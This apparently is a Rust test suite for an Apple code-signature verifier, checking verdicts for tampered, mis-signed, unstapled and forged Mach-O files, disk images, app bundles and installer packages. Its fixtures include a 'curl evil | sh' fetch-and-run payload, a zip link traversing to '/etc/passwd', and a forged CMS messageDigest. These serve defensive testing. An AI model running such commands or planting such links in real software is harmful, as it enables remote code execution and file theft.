//! Apple code signatures verified in-process, on this Linux host: a real binary its vendor
//! signed with a Developer ID (from npm), and fixtures signed here with the same crate and a
//! test PKI (valid, tampered code, tampered CMS, wrong team, ad-hoc, no timestamp, Apple
//! Development, self-signed), timestamped by a loopback RFC 3161 server run by `openssl ts`.

use std::path::{Path, PathBuf};

use crate::apple_pki::{
    ApplePki, How, TEAM, signed, signed_app, signed_claiming, staple, verify, zip_app,
};
use apple_codesign::{AppleCertificate as _, SettingsScope, SigningSettings};
use serde_json::Value;

fn signature(report: &Value) -> &Value {
    &report["artifacts"][0]
}

#[test]
fn a_real_developer_id_binary_shows_its_team_and_one_flipped_byte_turns_it_red() {
    let vendor = std::env::var("RC_TEST_APPLE_VENDOR_BINARY").expect(
        "RC_TEST_APPLE_VENDOR_BINARY names npm @sentry/cli-darwin's binary (scripts/test.sh)",
    );
    let dir = tempfile::tempdir().expect("dir");
    let bin = dir.path().join("sentry-cli");
    std::fs::copy(&vendor, &bin).expect("copy");

    let (_, report) = verify(&bin, &["--expect-team-id", "97JCY7859U"]);
    let a = signature(&report);
    assert_eq!(a["signature"], "valid", "{a:#}");
    assert_eq!(a["signer"]["team_id"], "97JCY7859U");
    assert_eq!(a["signer"]["publisher"], "GetSentry LLC");
    assert_eq!(
        a["signer"]["chain"],
        serde_json::json!([
            "Developer ID Application: GetSentry LLC (97JCY7859U)",
            "Developer ID Certification Authority",
            "Apple Root CA"
        ])
    );
    assert!(
        a["signer"]["timestamp"]
            .as_str()
            .is_some_and(|t| t.starts_with("Timestamp Signer")),
        "{a:#}"
    );
    let apple = &a["apple"];
    assert_eq!(apple["format"], "universal Mach-O");
    let slices = apple["slices"].as_array().expect("slices");
    assert_eq!(slices.len(), 2);
    for s in slices {
        assert_eq!(s["verdict"], "valid", "{s:#}");
        assert_eq!(s["hardened_runtime"], true);
        assert_eq!(s["profile"], "Developer ID Application");
        assert_eq!(
            s["chain"][2]["anchor"],
            "Apple Root CA, matched by SHA-256 fingerprint"
        );
        assert_eq!(s["cdhash"].as_str().map(str::len), Some(40));
    }
    assert!(
        apple["notarization"]
            .as_str()
            .is_some_and(|n| n.contains("checkable online only")),
        "{apple:#}"
    );

    // Without a pin it is not green; with another team it names both.
    let (_, report) = verify(&bin, &[]);
    assert_eq!(signature(&report)["signature"], "identity_mismatch");
    let (_, report) = verify(&bin, &["--expect-team-id", TEAM]);
    let a = signature(&report);
    assert_eq!(a["signature"], "identity_mismatch");
    assert!(
        a["detail"]
            .as_str()
            .is_some_and(|d| d.contains("expected Team ID ABCDE12345, got 97JCY7859U")),
        "{a:#}"
    );

    // One byte of code: red, naming the page.
    let mut data = std::fs::read(&bin).expect("read");
    data[20_000] ^= 0x01;
    std::fs::write(&bin, &data).expect("write");
    let (_, report) = verify(&bin, &["--expect-team-id", "97JCY7859U"]);
    let a = signature(&report);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        a["detail"]
            .as_str()
            .is_some_and(|d| d.contains("tampered: code page")),
        "{a:#}"
    );
}

/// A workspace-less verify with the PKI's root as the trust anchor and the team pinned.
fn verdict(pki: &ApplePki, dir: &Path, name: &str, data: &[u8], team: &str) -> Value {
    let path = dir.join(name);
    std::fs::write(&path, data).expect("write");
    signature(&pki.verify_pinned(&path, team)).clone()
}

fn detail(a: &Value) -> &str {
    a["detail"].as_str().unwrap_or("")
}

#[test]
fn fixtures_signed_here_get_each_verdict_for_the_right_reason() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");

    let good = signed(
        &pki,
        How::With {
            cert: "devid",
            tsa: Some(&tsa),
        },
    );
    let a = verdict(&pki, dir.path(), "valid", &good, TEAM);
    assert_eq!(a["signature"], "valid", "{a:#}");
    let slice = &a["apple"]["slices"][0];
    assert_eq!(slice["arch"], "arm64");
    assert_eq!(slice["identifier"], "com.wiretuner.app");
    assert_eq!(slice["team_id"], TEAM);
    assert_eq!(slice["hardened_runtime"], true);
    assert_eq!(slice["chain"][2]["anchor"], "the workspace's ca_file");
    assert!(
        slice["timestamp"]
            .as_str()
            .is_some_and(|t| t.starts_with("Test TSA at 20")),
        "{slice:#}"
    );

    // One byte of code.
    let mut code = good.clone();
    code[0x40] ^= 0x01;
    let a = verdict(&pki, dir.path(), "code", &code, TEAM);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(detail(&a).contains("code page 0 does not match"), "{a:#}");

    // One byte of the CMS signature value.
    let mut cms = good.clone();
    let at = signature_value_offset(&good);
    cms[at] ^= 0x01;
    let a = verdict(&pki, dir.path(), "cms", &cms, TEAM);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(detail(&a).contains("CMS"), "{a:#}");

    // Another team's Developer ID, valid in itself.
    let other = signed(
        &pki,
        How::With {
            cert: "other",
            tsa: Some(&tsa),
        },
    );
    let a = verdict(&pki, dir.path(), "other", &other, TEAM);
    assert_eq!(a["signature"], "identity_mismatch", "{a:#}");
    assert!(
        detail(&a).contains("expected Team ID ABCDE12345, got ZZZZZ99999"),
        "{a:#}"
    );

    let adhoc = signed(&pki, How::AdHoc);
    let a = verdict(&pki, dir.path(), "adhoc", &adhoc, TEAM);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(detail(&a).contains("ad-hoc"), "{a:#}");

    let untimed = signed(
        &pki,
        How::With {
            cert: "devid",
            tsa: None,
        },
    );
    let a = verdict(&pki, dir.path(), "untimed", &untimed, TEAM);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(detail(&a).contains("no secure timestamp"), "{a:#}");

    let dev = signed(
        &pki,
        How::With {
            cert: "dev",
            tsa: Some(&tsa),
        },
    );
    let a = verdict(&pki, dir.path(), "dev", &dev, TEAM);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a).contains("Apple Development certificate"),
        "{a:#}"
    );

    let own = signed(
        &pki,
        How::With {
            cert: "self",
            tsa: Some(&tsa),
        },
    );
    let a = verdict(&pki, dir.path(), "self", &own, TEAM);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(detail(&a).contains("self-signed"), "{a:#}");

    // Without the workspace's anchor the test root is nobody's: Apple's roots are matched by
    // fingerprint, never by name.
    let path = dir.path().join("valid");
    let (_, report) = verify(&path, &["--expect-team-id", TEAM]);
    let a = signature(&report);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(a).contains("does not chain to Apple Root CA"),
        "{a:#}"
    );
}

/// The team is the signer certificate's subject OU, which the CodeDirectory must repeat; every
/// issuer is a CA; a Developer ID leaf carries Apple's marker and hangs under the Developer ID
/// intermediate's.
#[test]
fn the_team_is_the_certificate_s_and_the_chain_is_apple_s_developer_id_shape() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");
    let with = |cert| How::With {
        cert,
        tsa: Some(&tsa),
    };

    // A WireTuner Developer ID whose CodeDirectory claims another team, pinned to that team.
    let claimed = signed_claiming(&pki, with("devid"), Some("ZZZZZ99999"));
    let a = verdict(&pki, dir.path(), "claimed", &claimed, "ZZZZZ99999");
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("the CodeDirectory claims Team ID ZZZZZ99999")
            && detail(&a).contains("is team ABCDE12345"),
        "{a:#}"
    );
    assert_eq!(a["apple"]["slices"][0]["team_id"], TEAM, "{a:#}");

    // A Developer ID leaf issued by a certificate that is not a CA (it even carries the
    // intermediate's marker).
    let rogue = signed(&pki, with("rogue"));
    let a = verdict(&pki, dir.path(), "rogue", &rogue, TEAM);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a).contains("chains through \"Test Not A CA\", which is not a CA"),
        "{a:#}"
    );

    // A Developer ID leaf straight under the root: no Developer ID intermediate.
    let direct = signed(&pki, with("direct"));
    let a = verdict(&pki, dir.path(), "direct", &direct, TEAM);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a)
            .contains("is not Apple's Developer ID intermediate (no 1.2.840.113635.100.6.2.6"),
        "{a:#}"
    );

    // The same leaf's sibling under the marked intermediate is valid.
    let good = signed(&pki, with("devid"));
    let a = verdict(&pki, dir.path(), "good", &good, TEAM);
    assert_eq!(a["signature"], "valid", "{a:#}");
}

/// Where, in a signed Mach-O, the first signer's signature value is.
fn signature_value_offset(data: &[u8]) -> usize {
    let file = apple_codesign::MachFile::parse(data).expect("mach-o");
    let macho = file.iter_macho().next().expect("slice");
    let sig = macho.code_signature().expect("sig").expect("signed");
    let cms = sig.signature_data().expect("cms").expect("cms");
    let sd = cryptographic_message_syntax::SignedData::parse_ber(cms).expect("cms");
    let value = sd.signers().next().expect("signer").signature().to_vec();
    let in_cms = cms
        .windows(value.len())
        .position(|w| w == value.as_slice())
        .expect("the signature value is in the CMS blob");
    let cms_at = cms.as_ptr() as usize - data.as_ptr() as usize;
    cms_at + in_cms + value.len() / 2
}

/// A minimal disk image: a data fork, a plist and the 512-byte `koly` trailer (big-endian, as
/// Apple's UDIF describes it), unsigned.
fn unsigned_dmg() -> Vec<u8> {
    let payload = b"HFS+ volume WireTuner.app ".repeat(400);
    let plist = b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict/></plist>\n".to_vec();
    let mut koly = vec![0u8; 512];
    let put32 =
        |k: &mut Vec<u8>, at: usize, v: u32| k[at..at + 4].copy_from_slice(&v.to_be_bytes());
    let put64 =
        |k: &mut Vec<u8>, at: usize, v: u64| k[at..at + 8].copy_from_slice(&v.to_be_bytes());
    koly[..4].copy_from_slice(b"koly");
    put32(&mut koly, 4, 4); // version
    put32(&mut koly, 8, 512); // header size
    put32(&mut koly, 12, 1); // flags
    put64(&mut koly, 32, payload.len() as u64); // data fork length
    put32(&mut koly, 60, 1); // segment count
    put64(&mut koly, 216, payload.len() as u64); // plist offset
    put64(&mut koly, 224, plist.len() as u64); // plist length
    put32(&mut koly, 488, 1); // image variant
    put64(&mut koly, 492, (payload.len() as u64).div_ceil(512)); // sectors
    [payload, plist, koly].concat()
}

/// `unsigned_dmg` signed by the crate as `how` says, with `ticket` stapled when given.
fn signed_dmg(
    pki: &ApplePki,
    dir: &Path,
    name: &str,
    how: How<'_>,
    ticket: Option<&[u8]>,
) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, unsigned_dmg()).expect("dmg");
    let key;
    let mut settings = SigningSettings::default();
    settings.set_binary_identifier(SettingsScope::Main, "WireTuner-1.4.0");
    if let How::With { cert, tsa } = how {
        key = pki.key(cert);
        settings.set_signing_key(&key, pki.cert(cert));
        for c in pki.chain(cert) {
            settings.chain_certificate(c);
        }
        if let Some(team) = pki.cert(cert).apple_team_id() {
            settings.set_team_id(team);
        }
        if let Some(url) = tsa {
            settings.set_time_stamp_url(url).expect("tsa url");
        }
    }
    let mut fh = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&path)
        .expect("open");
    apple_codesign::dmg::DmgSigner::default()
        .sign_file(&settings, &mut fh)
        .expect("sign the dmg");
    if let Some(t) = ticket {
        apple_codesign::dmg::DmgSigner::default()
            .staple_file(&mut fh, t.to_vec())
            .expect("staple");
    }
    path
}

fn cdhash_of_dmg(path: &Path) -> Vec<u8> {
    use apple_codesign::Blob as _;
    let mut fh = std::fs::File::open(path).expect("open");
    let reader = apple_codesign::dmg::DmgReader::new(&mut fh).expect("dmg");
    let sig = reader.embedded_signature().expect("sig").expect("signed");
    let cd = sig.code_directory().expect("cd").expect("cd");
    let mut d = cd.digest_with(cd.digest_type).expect("digest");
    d.truncate(20);
    d
}

#[test]
fn disk_images_need_a_good_signature_and_a_stapled_ticket_naming_their_cdhash() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");
    let devid = How::With {
        cert: "devid",
        tsa: Some(&tsa),
    };
    let check = |path: &Path| signature(&pki.verify_pinned(path, TEAM)).clone();

    // Signed but not stapled: not yet distributable.
    let plain = signed_dmg(&pki, dir.path(), "plain.dmg", devid, None);
    let a = check(&plain);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a).contains("no notarization ticket is stapled"),
        "{a:#}"
    );
    assert_eq!(a["apple"]["format"], "disk image");
    assert_eq!(a["apple"]["notarization"], "not stapled");

    // A ticket that names this image's CDHash (made here: Apple's own tickets carry their
    // signature, which Gatekeeper checks on a Mac).
    let cdhash = cdhash_of_dmg(&plain);
    let ticket = pki.ticket(&[&cdhash]);
    let stapled = signed_dmg(&pki, dir.path(), "stapled.dmg", devid, Some(&ticket));
    assert_eq!(
        cdhash_of_dmg(&stapled),
        cdhash,
        "stapling leaves the CodeDirectory"
    );
    let a = check(&stapled);
    assert_eq!(a["signature"], "valid", "{a:#}");
    // Off macOS the ticket's Apple signature is not checked, and the words say so.
    let words = "a ticket naming this CDHash is stapled; its Apple signature is checked on \
                 macOS only";
    assert_eq!(a["apple"]["notarization"], words, "{a:#}");
    assert!(detail(&a).ends_with(words), "{a:#}");
    assert!(!detail(&a).contains("notarized"), "{a:#}");

    // A blob that merely contains the CDHash is not a ticket.
    let loose = [b"s8ch\x01\x00\x00\x00".as_slice(), &cdhash, b"ticket body"].concat();
    let a = check(&signed_dmg(
        &pki,
        dir.path(),
        "loose.dmg",
        devid,
        Some(&loose),
    ));
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("the stapled blob is not a notarization ticket"),
        "{a:#}"
    );

    // A ticket for other code.
    let other = signed_dmg(
        &pki,
        dir.path(),
        "other.dmg",
        devid,
        Some(&pki.ticket(&[&[0x77; 20]])),
    );
    let a = check(&other);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(detail(&a).contains("ticket is for other code"), "{a:#}");

    // One byte of the image's content.
    let mut bytes = std::fs::read(&stapled).expect("read");
    bytes[100] ^= 0x01;
    let tampered = dir.path().join("tampered.dmg");
    std::fs::write(&tampered, &bytes).expect("write");
    let a = check(&tampered);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("content does not match its digest"),
        "{a:#}"
    );

    // Ad-hoc.
    let adhoc = signed_dmg(&pki, dir.path(), "adhoc.dmg", How::AdHoc, None);
    let a = check(&adhoc);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(detail(&a).contains("ad-hoc"), "{a:#}");
}

/// The CMS signature is checked over its signed attributes, not only its `messageDigest`: a
/// disk image whose CodeDirectory was changed after signing, with the `messageDigest` attribute
/// patched to the new CodeDirectory's hash (the signer's signature bytes, and so its timestamp,
/// unchanged), is red.
#[test]
fn a_disk_image_with_a_changed_code_directory_and_a_patched_message_digest_is_invalid() {
    use sha2::Digest as _;
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");
    let devid = How::With {
        cert: "devid",
        tsa: Some(&tsa),
    };
    let path = signed_dmg(&pki, dir.path(), "patched.dmg", devid, None);
    let mut bytes = std::fs::read(&path).expect("read");
    let at = bytes
        .windows(4)
        .position(|w| w == [0xfa, 0xde, 0x0c, 0x02])
        .expect("a CodeDirectory");
    let len = u32::from_be_bytes(bytes[at + 4..at + 8].try_into().expect("len")) as usize;
    let old = sha2::Sha256::digest(&bytes[at..at + len]).to_vec();
    // The CodeDirectory's identifier, changed in place.
    let cd = &mut bytes[at..at + len];
    let id = cd
        .windows(15)
        .position(|w| w == b"WireTuner-1.4.0")
        .expect("the identifier");
    cd[id..id + 4].copy_from_slice(b"Evil");
    let new = sha2::Sha256::digest(&bytes[at..at + len]).to_vec();
    // messageDigest (1.2.840.113549.1.9.4): SET { OCTET STRING (32) }.
    let attr = [
        &[
            0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x09, 0x04, 0x31, 0x22, 0x04,
            0x20,
        ][..],
        &old,
    ]
    .concat();
    let md = bytes
        .windows(attr.len())
        .position(|w| w == attr.as_slice())
        .expect("the messageDigest attribute")
        + attr.len()
        - 32;
    bytes[md..md + 32].copy_from_slice(&new);
    std::fs::write(&path, &bytes).expect("write");
    // Stapled with a ticket naming the new CodeDirectory, so that nothing else is amiss.
    let cdhash = cdhash_of_dmg(&path);
    assert_eq!(cdhash, new[..20], "the new CodeDirectory is the image's");
    let mut fh = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&path)
        .expect("open");
    apple_codesign::dmg::DmgSigner::default()
        .staple_file(&mut fh, pki.ticket(&[&cdhash]))
        .expect("staple");
    drop(fh);
    let a = signature(&pki.verify_pinned(&path, TEAM)).clone();
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("the signature over the signed attributes does not verify"),
        "{a:#}"
    );
    assert_eq!(
        a["apple"]["slices"][0]["identifier"], "EvilTuner-1.4.0",
        "{a:#}"
    );
}

#[test]
fn zipped_app_bundles_are_checked_file_by_file_with_their_ticket() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");
    let app = signed_app(&pki, dir.path(), &tsa, None);
    let check = |zip: &Path| signature(&pki.verify_pinned(zip, TEAM)).clone();
    let zip = dir.path().join("WireTuner-1.4.0-macos.zip");

    // Signed, not stapled.
    zip_app(&app, &zip, None);
    let a = check(&zip);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a).contains("no notarization ticket is stapled"),
        "{a:#}"
    );
    assert_eq!(a["apple"]["format"], "zipped app bundle");

    // Stapled with a ticket naming the executable's CDHash.
    staple(&pki, &app);
    zip_app(&app, &zip, None);
    let a = check(&zip);
    assert_eq!(a["signature"], "valid", "{a:#}");
    assert_eq!(a["apple"]["slices"][0]["identifier"], "com.wiretuner.app");

    // A sealed resource edited after signing.
    std::fs::write(
        app.join("Contents/Resources/app.json"),
        b"{\"flutter\": false}",
    )
    .expect("edit");
    zip_app(&app, &zip, None);
    let a = check(&zip);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("Resources/app.json was modified after signing"),
        "{a:#}"
    );
    std::fs::write(
        app.join("Contents/Resources/app.json"),
        b"{\"flutter\": true}",
    )
    .expect("restore");

    // A file added after signing.
    std::fs::write(app.join("Contents/Resources/payload.sh"), b"curl evil | sh").expect("add");
    zip_app(&app, &zip, None);
    let a = check(&zip);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("Resources/payload.sh was added after signing"),
        "{a:#}"
    );
    std::fs::remove_file(app.join("Contents/Resources/payload.sh")).expect("remove");

    // Info.plist edited.
    let info = app.join("Contents/Info.plist");
    let text = std::fs::read_to_string(&info).expect("info");
    std::fs::write(&info, text.replace("1.4.0", "9.9.9")).expect("edit");
    zip_app(&app, &zip, None);
    let a = check(&zip);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("Info.plist does not match its digest"),
        "{a:#}"
    );
    std::fs::write(&info, text).expect("restore");

    // A link that leaves the archive.
    zip_app(
        &app,
        &zip,
        Some((
            "WireTuner.app/Contents/Resources/evil",
            "../../../../../etc/passwd",
        )),
    );
    let a = check(&zip);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(detail(&a).contains("leaves the archive"), "{a:#}");
}

/// A minimal flat package (XAR): the 28-byte header, a zlib table of contents naming one file
/// (`Distribution`), and the heap: the TOC's SHA-1, then the file. Unsigned.
fn unsigned_pkg() -> Vec<u8> {
    use std::io::Write as _;
    let sha1 = |d: &[u8]| {
        apple_codesign::cryptography::DigestType::Sha1
            .digest_data(d)
            .expect("sha1")
    };
    let hex = |d: &[u8]| {
        use std::fmt::Write as _;
        d.iter().fold(String::new(), |mut s, b| {
            let _ = write!(s, "{b:02x}");
            s
        })
    };
    let distribution = b"<?xml version=\"1.0\"?><installer-gui-script minSpecVersion=\"1\"><title>WireTuner</title></installer-gui-script>\n".to_vec();
    let n = distribution.len();
    let sum = hex(&sha1(&distribution));
    let toc = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xar><toc><checksum style=\"sha1\"><offset>0</offset><size>20</size></checksum><creation-time>2026-12-02T10:00:00</creation-time><file id=\"1\"><name>Distribution</name><type>file</type><data><length>{n}</length><offset>20</offset><size>{n}</size><encoding style=\"application/octet-stream\"/><extracted-checksum style=\"sha1\">{sum}</extracted-checksum><archived-checksum style=\"sha1\">{sum}</archived-checksum></data></file></toc></xar>\n"
    );
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(toc.as_bytes()).expect("zlib");
    let compressed = z.finish().expect("zlib");
    let mut out = Vec::new();
    out.extend_from_slice(b"xar!");
    out.extend_from_slice(&28u16.to_be_bytes());
    out.extend_from_slice(&1u16.to_be_bytes());
    out.extend_from_slice(&(compressed.len() as u64).to_be_bytes());
    out.extend_from_slice(&(toc.len() as u64).to_be_bytes());
    out.extend_from_slice(&1u32.to_be_bytes());
    out.extend_from_slice(&compressed);
    out.extend_from_slice(&sha1(&compressed));
    out.extend_from_slice(&distribution);
    out
}

fn signed_pkg(pki: &ApplePki, cert: &str, tsa: Option<&str>) -> Vec<u8> {
    let reader =
        apple_xar::reader::XarReader::new(std::io::Cursor::new(unsigned_pkg())).expect("xar");
    let mut signer = apple_xar::signing::XarSigner::new(reader);
    let key = pki.key(cert);
    let url = tsa.map(|t| url::Url::parse(t).expect("url"));
    let mut out = Vec::new();
    signer
        .sign(
            &mut out,
            &key,
            &pki.cert(cert),
            url.as_ref(),
            pki.chain(cert).into_iter(),
        )
        .expect("sign the package");
    out
}

#[test]
fn flat_packages_need_a_developer_id_installer_signature_timestamp_and_ticket() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");
    let check = |name: &str, bytes: &[u8]| {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).expect("write");
        signature(&pki.verify_pinned(&path, TEAM)).clone()
    };
    let good = signed_pkg(&pki, "installer", Some(&tsa));
    let a = check("plain.pkg", &good);
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a).contains("no notarization ticket is stapled"),
        "{a:#}"
    );
    assert_eq!(a["apple"]["format"], "flat package");
    assert_eq!(a["apple"]["slices"][0]["profile"], "Developer ID Installer");

    // Stapled (the trailer stapler writes), naming the TOC digest.
    let cdhash = a["apple"]["slices"][0]["cdhash"]
        .as_str()
        .expect("digest")
        .to_owned();
    let digest: Vec<u8> = (0..cdhash.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&cdhash[i..i + 2], 16).expect("hex"))
        .collect();
    let trailer = apple_codesign::stapling::xar_notarization_trailer(&pki.ticket(&[&digest]))
        .expect("trailer");
    let stapled = [good.clone(), trailer].concat();
    let a = check("stapled.pkg", &stapled);
    assert_eq!(a["signature"], "valid", "{a:#}");

    // One byte of a file in the heap.
    let mut tampered = stapled.clone();
    let at = tampered
        .windows(16)
        .position(|w| w == b"WireTuner</title")
        .expect("the Distribution file");
    tampered[at] ^= 0x01;
    let a = check("tampered.pkg", &tampered);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(&a).contains("Distribution was modified after signing"),
        "{a:#}"
    );

    // Signed with an application certificate, and without a timestamp.
    let a = check("app-cert.pkg", &signed_pkg(&pki, "devid", Some(&tsa)));
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(detail(&a).contains("Developer ID Installer"), "{a:#}");
    // The installer EKU without Apple's Developer ID Installer marker extension.
    let a = check("unmarked.pkg", &signed_pkg(&pki, "unmarked", Some(&tsa)));
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(
        detail(&a).contains(
            "lacks Apple's Developer ID Installer marker extension (1.2.840.113635.100.6.1.14)"
        ),
        "{a:#}"
    );
    let a = check("untimed.pkg", &signed_pkg(&pki, "installer", None));
    assert_eq!(a["signature"], "untrusted", "{a:#}");
    assert!(detail(&a).contains("no secure timestamp"), "{a:#}");

    let a = check("unsigned.pkg", &unsigned_pkg());
    assert_eq!(a["signature"], "unsigned", "{a:#}");
}

#[test]
fn an_app_bundle_folder_is_one_artifact_checked_by_its_seal() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let dir = tempfile::tempdir().expect("dir");
    let app = signed_app(&pki, dir.path(), &tsa, None);
    staple(&pki, &app);
    // The bundle itself, and a folder holding it: one artifact either way.
    for path in [app.clone(), app.parent().expect("parent").to_owned()] {
        let report = pki.verify_pinned(&path, TEAM);
        let artifacts = report["artifacts"].as_array().expect("artifacts");
        assert_eq!(artifacts.len(), 1, "{report:#}");
        let a = &artifacts[0];
        assert_eq!(a["path"], "WireTuner.app");
        assert_eq!(a["signature"], "valid", "{a:#}");
        assert!(detail(a).contains("ship it zipped"), "{a:#}");
    }
    std::fs::write(app.join("Contents/Resources/app.json"), b"{}").expect("edit");
    let report = pki.verify_pinned(&app, TEAM);
    let a = signature(&report);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    assert!(
        detail(a).contains("Resources/app.json was modified after signing"),
        "{a:#}"
    );
}

/// Nested code is judged as the executable is: notarization needs it signed with a Developer
/// ID and timestamped, and library validation loads only the same team's code.
#[test]
fn nested_code_must_be_signed_for_distribution_by_the_same_team() {
    let pki = ApplePki::new();
    let tsa = pki.tsa();
    let cases = [
        (
            How::With {
                cert: "devid",
                tsa: Some(tsa.as_str()),
            },
            "valid",
            "",
        ),
        (
            How::With {
                cert: "other",
                tsa: Some(tsa.as_str()),
            },
            "identity_mismatch",
            "expected Team ID",
        ),
        (How::AdHoc, "untrusted", "ad-hoc"),
        (
            How::With {
                cert: "devid",
                tsa: None,
            },
            "untrusted",
            "no secure timestamp",
        ),
    ];
    for (how, want, words) in cases {
        let dir = tempfile::tempdir().expect("dir");
        let app = signed_app(&pki, dir.path(), &tsa, Some(how));
        staple(&pki, &app);
        let report = pki.verify_pinned(&app, TEAM);
        let a = signature(&report);
        assert_eq!(a["signature"], want, "{a:#}");
        if want != "valid" {
            let d = detail(a);
            assert!(
                d.contains("nested Frameworks/libengine.dylib (arm64)") && d.contains(words),
                "{a:#}"
            );
            if words == "expected Team ID" {
                assert!(d.contains("ZZZZZ99999"), "both teams named: {a:#}");
            }
        }
        // The executable itself is still shown as what it is.
        assert_eq!(a["apple"]["slices"][0]["team_id"], TEAM, "{a:#}");
    }
}

/// Content decides what a file is, not its name: a Developer ID Mach-O named `tool.bin` is
/// verified as one; a zipped app whose `.app` comes after 64 padding entries, or a zip named as
/// the feeds' macOS app that holds none, is judged (red), never "not signable".
#[test]
fn a_signable_file_is_found_by_its_content_whatever_its_name_or_padding() {
    let vendor = std::env::var("RC_TEST_APPLE_VENDOR_BINARY").expect(
        "RC_TEST_APPLE_VENDOR_BINARY names npm @sentry/cli-darwin's binary (scripts/test.sh)",
    );
    let dir = tempfile::tempdir().expect("dir");
    let bin = dir.path().join("tool.bin");
    std::fs::copy(&vendor, &bin).expect("copy");
    let (_, report) = verify(&bin, &["--expect-team-id", "97JCY7859U"]);
    assert_eq!(signature(&report)["signature"], "valid", "{report:#}");

    let zip_of = |name: &str, entries: &[(&str, &[u8])]| {
        let path = dir.path().join(name);
        let mut z = zip::ZipWriter::new(std::fs::File::create(&path).expect("create"));
        for (n, data) in entries {
            z.start_file(*n, zip::write::SimpleFileOptions::default())
                .expect("entry");
            std::io::Write::write_all(&mut z, data).expect("write");
        }
        z.finish().expect("finish");
        path
    };
    let pads: Vec<String> = (0..64)
        .map(|i| format!("WireTuner.app/pad{i:02}"))
        .collect();
    let mut entries: Vec<(&str, &[u8])> = pads.iter().map(|p| (p.as_str(), &b"x"[..])).collect();
    let macho = [&[0xcf, 0xfa, 0xed, 0xfe][..], &[0u8; 100]].concat();
    entries.push(("WireTuner.app/Contents/MacOS/WireTuner", &macho));
    let padded = zip_of("WireTuner-1.0.0-mac.zip", &entries);
    let (code, report) = verify(&padded, &["--expect-team-id", "97JCY7859U"]);
    let a = signature(&report);
    assert_ne!(code, Some(0), "{a:#}");
    assert!(
        a["signature"] != "not_applicable" && a["signature"] != "valid",
        "{a:#}"
    );
    let no_app = zip_of("WireTuner-1.0.0.app.zip", &[("README.txt", b"hello")]);
    let (code, report) = verify(&no_app, &["--expect-team-id", "97JCY7859U"]);
    let a = signature(&report);
    assert_ne!(code, Some(0), "{a:#}");
    assert!(
        a["signature"] != "not_applicable" && a["signature"] != "valid",
        "{a:#}"
    );
}

/// A CodeDirectory's page size is checked before the code is hashed: the vendor binary with
/// its page size set to 2^0 (a digest of every byte: gigabytes of memory) is red at once.
#[test]
fn a_code_directory_with_a_page_size_no_signer_uses_is_invalid_before_hashing() {
    let vendor = std::env::var("RC_TEST_APPLE_VENDOR_BINARY").expect(
        "RC_TEST_APPLE_VENDOR_BINARY names npm @sentry/cli-darwin's binary (scripts/test.sh)",
    );
    let dir = tempfile::tempdir().expect("dir");
    let bin = dir.path().join("sentry-cli");
    let mut data = std::fs::read(&vendor).expect("read");
    let mut patched = 0;
    let mut from = 0;
    while let Some(at) = data[from..]
        .windows(4)
        .position(|w| w == [0xfa, 0xde, 0x0c, 0x02])
    {
        data[from + at + 39] = 0;
        patched += 1;
        from += at + 4;
    }
    assert!(patched >= 2, "a CodeDirectory in each slice");
    std::fs::write(&bin, &data).expect("write");
    let (_, report) = verify(&bin, &["--expect-team-id", "97JCY7859U"]);
    let a = signature(&report);
    assert_eq!(a["signature"], "invalid", "{a:#}");
    let slices = a["apple"]["slices"].as_array().expect("slices");
    assert!(
        slices.iter().all(|s| s["detail"]
            .as_str()
            .is_some_and(|d| d.contains("page size is 2^0"))),
        "{a:#}"
    );
}
